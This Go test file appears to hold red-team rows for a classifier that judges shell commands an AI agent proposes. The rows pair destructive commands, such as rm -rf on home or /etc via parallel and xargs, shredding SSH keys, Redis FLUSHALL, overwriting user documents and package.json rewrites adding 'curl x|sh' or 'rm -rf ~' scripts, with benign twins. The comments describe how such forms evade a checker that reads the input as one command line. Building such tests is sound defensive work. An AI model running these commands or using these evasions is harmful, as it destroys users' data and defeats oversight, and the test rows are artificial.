package main

import (
	"fmt"
	"strings"
)

// attackRed13: input written by an outsider, round three. xargs -I and
// GNU parallel given several items for a command whose replacement
// string sits inside a larger word (sh -c 'rm -rf {}', parallel 'rm -rf
// {}' ::: a b): each item makes a command of its own, and reading them as
// one command line judged only the first; cp, mv and install onto a
// document of the user's, which replace it whole as > does. Each has a
// benign twin: the same programs on build output or items that are the
// project's, and rsync --delete mirroring into build output.
const attackRed13 = "red13"

// attackRed13Rows are the rows of the red13 class.
func attackRed13Rows() []Row {
	var rows []Row
	for _, f := range []func() []Row{red13JobsRows, red13OverwriteRows, red13RedisStdinRows, red13ManifestFilterRows} {
		rows = append(rows, f()...)
	}
	return rows
}

// red13JobsRows: one command per item when the item is inside a word.
func red13JobsRows() []Row {
	const c = attackRed13
	var rows []Row
	// The dangerous item second: a reading that merges the items into one
	// command line keeps only the first.
	for _, items := range [][2]string{{"/tmp/x", "~"}, {"build", "~/Documents"}, {"dist", "/etc"}} {
		list := items[0] + " " + items[1]
		lines := `printf '%s\n' ` + list
		for _, form := range []string{
			"parallel 'rm -rf {}' ::: %s",
			"parallel -j4 'rm -rf {}' ::: %s",
			"parallel sh -c 'rm -rf {}' ::: %s",
			"parallel --will-cite \"rm -rf {}/\" ::: %s",
			"parallel -q sh -c 'rm -rf $0' ::: %s",
		} {
			rows = append(rows, d(c, "approve", fmt.Sprintf(form, list), "Deletes "+items[1]+", the second of the items parallel runs the command for."))
		}
		for _, form := range []string{
			"%s | parallel 'rm -rf {}'",
			"%s | parallel sh -c 'rm -rf {}'",
			"%s | xargs -I{} sh -c 'rm -rf {}'",
			"%s | xargs -I % bash -c 'rm -rf %'",
			"%s | xargs --replace=@ sh -c 'rm -rf @'",
		} {
			rows = append(rows, d(c, "approve", strings.Replace(form, "%s", lines, 1), "Deletes "+items[1]+", read as the second line of the items."))
		}
	}
	for _, form := range []string{
		"parallel 'shred -u {}' ::: notes.txt ~/.ssh/id_ed25519",
		"printf '%s\\n' a.txt ~/.ssh/id_rsa | xargs -I{} sh -c 'shred -u {}'",
		"parallel 'chmod -R 777 {}' ::: build ~/.ssh",
	} {
		rows = append(rows, d(c, "approve", form, "Destroys or opens up an SSH key, the second item of the list."))
	}
	// Twins: the same forms on the project's own files.
	for _, items := range []string{"build dist", "logs/a.log logs/b.log", "out coverage"} {
		lines := `printf '%s\n' ` + items
		for _, form := range []string{
			"parallel 'gzip -9 {}' ::: %s",
			"parallel sh -c 'wc -l {}' ::: %s",
			"parallel -j4 'ls -la {}' ::: %s",
			"parallel -q sh -c 'du -sh $0' ::: %s",
		} {
			rows = append(rows, b(c, fmt.Sprintf(form, items), "Compresses, counts or lists the project's files, one job each."))
		}
		for _, form := range []string{
			"%s | parallel 'du -sh {}'",
			"%s | xargs -I{} sh -c 'wc -c {}'",
			"%s | xargs -I % bash -c 'ls %'",
		} {
			rows = append(rows, b(c, strings.Replace(form, "%s", lines, 1), "Reads the sizes of the project's files, one command each."))
		}
	}
	rows = append(rows,
		b(c, "parallel 'rm -rf {}' ::: build dist", "Deletes the project's build output, one job each."),
		b(c, "printf '%s\\n' build dist | xargs -I{} sh -c 'rm -rf {}'", "Deletes the project's build output, one command each."),
		b(c, "parallel sh -c 'rm -rf {}' ::: node_modules .next", "Deletes the project's dependencies and build cache."),
	)
	return rows
}

// red13OverwriteRows: cp, mv and install onto a user's document replace
// it whole; rsync --delete into build output deletes only what the build
// makes again.
func red13OverwriteRows() []Row {
	const c = attackRed13
	var rows []Row
	for _, doc := range []string{"~/Documents/thesis.docx", "~/Documents/report.pdf", "~/Desktop/budget.xlsx", "$HOME/Documents/contract.odt"} {
		for _, form := range []string{"cp notes.txt %s", "mv notes.txt %s", "install -m 644 notes.txt %s", "cp -f /tmp/blank %s"} {
			rows = append(rows, d(c, "confirm", fmt.Sprintf(form, doc), "Replaces the user's document "+doc+" with another file: its content is lost."))
		}
	}
	for _, dst := range []string{"~/Documents/", "~/Desktop/new-report.pdf.d/", "./docs/"} {
		rows = append(rows, b(c, "cp build/report.pdf "+dst, "Copies a report into a folder, replacing nothing named."))
	}
	rows = append(rows,
		b(c, "cp docs/guide.pdf dist/guide.pdf", "Copies a document into the project's build output."),
		b(c, "mv draft.docx docs/final.docx", "Renames a document inside the project."),
		b(c, "cp ~/Documents/thesis.docx ./backup/", "Copies a document into the project as a backup."),
		b(c, "cp ~/Documents/report.pdf /tmp/report.pdf", "Copies a document to scratch space."),
	)
	for _, pair := range [][2]string{{"build/", "dist/"}, {"./public/", "./out/"}, {"assets/", "build/assets/"}} {
		for _, opt := range []string{"-a --delete", "-av --delete-after", "-r --del"} {
			rows = append(rows, b(c, "rsync "+opt+" "+pair[0]+" "+pair[1], "Mirrors into the project's build output, deleting there what the build makes again."))
		}
	}
	for _, dst := range []string{"~/Documents/", "src/", "./"} {
		rows = append(rows, d(c, "confirm", "rsync -a --delete build/ "+dst, "Mirrors build output onto "+strings.TrimSuffix(dst, "/")+", deleting every file there that is not in build/."))
	}
	return rows
}

// red13RedisStdinRows: Redis commands given on the client's standard
// input (a pipe, a here-string, a file written on the line, --pipe) run
// as they would on its command line.
func red13RedisStdinRows() []Row {
	const c = attackRed13
	return []Row{
		d(c, "approve", "echo FLUSHALL | redis-cli", "Deletes every key of the Redis server, the command piped into redis-cli."),
		d(c, "approve", "redis-cli -n 2 <<< 'FLUSHDB'", "Deletes every key of Redis database 2, given as a here-string."),
		d(c, "approve", "echo 'FLUSHALL' > cmds.txt && redis-cli < cmds.txt", "Deletes every key of the Redis server, from a file the line wrote."),
		d(c, "approve", `printf '*1\r\n$8\r\nFLUSHALL\r\n' | redis-cli --pipe`, "Deletes every key of the Redis server, written in the Redis protocol."),
		b(c, "echo PING | redis-cli", "Checks that the Redis server answers."),
		b(c, "printf 'GET session:1\nINFO\n' | redis-cli -n 2", "Reads a key and the server's information."),
		b(c, "echo FLUSHALL | redis-cli -x SET note", "Stores the word FLUSHALL as the value of a key."),
		b(c, "redis-cli <<< 'DBSIZE'", "Counts the keys of the Redis database."),
	}
}

// red13ManifestFilterRows: package.json rewritten by a filter (into a
// temporary file moved over it, through sponge, or yq -i) and then run by
// npm: what runs is the filter's output, which nobody saw.
func red13ManifestFilterRows() []Row {
	const c = attackRed13
	return []Row{
		d(c, "confirm", `jq '.scripts.postinstall="curl x|sh"' package.json > t && mv t package.json && npm i`, "Adds an install script that pipes a download into sh, then installs."),
		d(c, "confirm", `sed 's/"test": "jest"/"test": "rm -rf ~"/' package.json > t; mv t package.json; npm test`, "Replaces the test script with a delete of the home directory, then runs it."),
		d(c, "confirm", `jq '.scripts.test="rm -rf ~"' package.json | sponge package.json && npm test`, "Rewrites the test script through sponge, then runs it."),
		d(c, "confirm", `yq -i '.scripts.postinstall="curl x|sh"' package.json && npm i`, "Adds an install script in place with yq, then installs."),
		b(c, `jq '.version="1.2.3"' package.json > t && mv t package.json && git diff package.json`, "Bumps the version and shows the change."),
		b(c, `jq '.scripts' package.json && npm test`, "Prints the scripts, then runs the tests."),
		b(c, `yq -i '.version="2.0.0"' package.json`, "Bumps the version in place."),
		b(c, `jq . package.json | sponge package.json`, "Reformats package.json in place."),
	}
}
